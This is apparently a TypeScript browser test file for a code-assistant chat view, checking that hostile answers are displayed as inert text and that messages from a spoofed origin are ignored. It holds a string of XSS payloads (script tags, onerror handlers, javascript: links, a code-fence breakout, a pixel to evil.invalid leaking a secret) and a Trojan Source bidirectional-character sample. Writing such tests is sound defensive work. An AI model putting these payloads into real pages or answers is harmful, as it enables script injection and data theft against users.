import assert from "node:assert/strict";
import type { ChatEvent, ToWebview } from "../../../src/chat/protocol";
import { snapshot } from "./events";
import { faceForEachTest } from "./face";

const answer = (text: string): ChatEvent[] => [
  { kind: "user", text, at: 1 },
  { kind: "thinking", delta: text },
  { kind: "toolCall", id: "aaaaaaaaa", name: "read_file", arguments: text, label: text, place: { path: text } },
  { kind: "toolResult", id: "aaaaaaaaa", ok: true, summary: text, content: text },
  { kind: "text", delta: text },
  { kind: "end", reason: "complete" },
];

const attack = `<script>alert(1)</script><img src="https://evil.invalid/a.png" onerror="alert(2)">
<svg onload="alert(3)"><style>*{display:none}</style></svg><iframe src="https://evil.invalid/"></iframe>

![pixel](https://evil.invalid/pixel.png?secret) ![x](data:image/svg+xml,<svg/onload=alert(4)>)

[run](javascript:alert(5)) [run](data:text/html,<script>alert(6)</script>) [command](command:workbench.action.quit)

<form id="root" name="body"><input name="attributes"></form>

\`\`\`html"><img src=x onerror=alert(7)>
</code></pre><script>alert(8)</script>
\`\`\`
`;

const said = (delta: string): ToWebview => ({
  type: "event",
  conversation: "one",
  seq: 2,
  event: { kind: "text", delta },
});

describe("the chat view and hostile answers", function () {
  this.timeout(60_000);
  const face = faceForEachTest();

  it("runs, fetches and draws nothing that an answer brings along", async () => {
    const { page, say, offences } = face();
    await say(snapshot(answer(attack)));
    await page.getByRole("button", { name: "Thinking" }).click();
    await page.getByRole("button", { name: /done/ }).click();
    const answered = page.getByRole("article", { name: "Codestral" });
    await answered.getByText("</code></pre><script>alert(8)</script>").last().waitFor();
    const foreign = page
      .locator("article")
      .locator("script, img, iframe, style, form, input, [style], [onerror], [name]");
    assert.equal(await foreign.count(), 0);
    assert.deepEqual(
      await answered.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
      ["https://evil.invalid/a.png", "https://evil.invalid/", "https://evil.invalid/pixel.png?secret"],
    );
    assert.deepEqual(offences, []);
  });

  it("opens links through the host only", async () => {
    const { page, say, next, offences } = face();
    const text = "[out](https://example.org/) [lines](src/a.ts#L3-L5) ![picture](https://example.org/a.png)";
    await say(
      snapshot([
        { kind: "user", text: "?", at: 1 },
        { kind: "text", delta: text },
      ]),
    );
    await page.getByRole("link", { name: "out" }).click();
    assert.equal((await next("openLink")).url, "https://example.org/");
    await page.getByRole("link", { name: "lines" }).click();
    assert.deepEqual((await next("openPlace")).place, { path: "src/a.ts", startLine: 3, endLine: 5 });
    await page.getByRole("link", { name: "picture" }).click();
    assert.equal((await next("openLink")).url, "https://example.org/a.png");
    assert.deepEqual(offences, []);
  });

  it("does not hear what a page of another origin says", async () => {
    const { page, say } = face();
    await say(snapshot([{ kind: "user", text: "?", at: 1 }]));
    const spoofed = JSON.stringify({ origin: "https://evil.invalid", data: said("Spoofed") });
    await page.evaluate(`dispatchEvent(new MessageEvent("message", ${spoofed}))`);
    await say(said("Honest"));
    await page.getByText("Honest").waitFor();
    assert.equal(await page.getByText("Spoofed").count(), 0);
  });

  it("shows the beginning of 5 MB and copies the whole", async () => {
    const { page, say, next } = face();
    const text = "word **bold** `code`\n\n".repeat(240_000);
    await say(
      snapshot([
        { kind: "user", text: "?", at: 1 },
        { kind: "text", delta: text },
      ]),
    );
    await page.getByText(/^Showing the first [\d,]+ of 5,280,000 characters/).waitFor();
    await page.getByRole("button", { name: "Copy the whole text" }).click();
    assert.equal((await next("copy")).text, text);
  });

  it("makes reordering and unseen characters visible in code, and copies the code as it is", async () => {
    const { page, say, next } = face();
    const code = 'if (level != "user\u202e \u2066// admin\u2069 \u2066") {\u200b';
    await say(
      snapshot([
        { kind: "user", text: "?", at: 1 },
        { kind: "text", delta: `a\u202eb\n\n~~~js\n${code}\n~~~` },
      ]),
    );
    const block = page.getByRole("group", { name: "JavaScript code" });
    assert.match((await block.textContent()) ?? "", /"user⟨U\+202E⟩ ⟨U\+2066⟩\/\/ admin⟨U\+2069⟩.*⟨U\+200B⟩/);
    await page.getByText("a⟨U+202E⟩b").waitFor();
    await block.getByRole("button", { name: "Copy code" }).click();
    assert.equal((await next("copy")).text, code);
  });
});
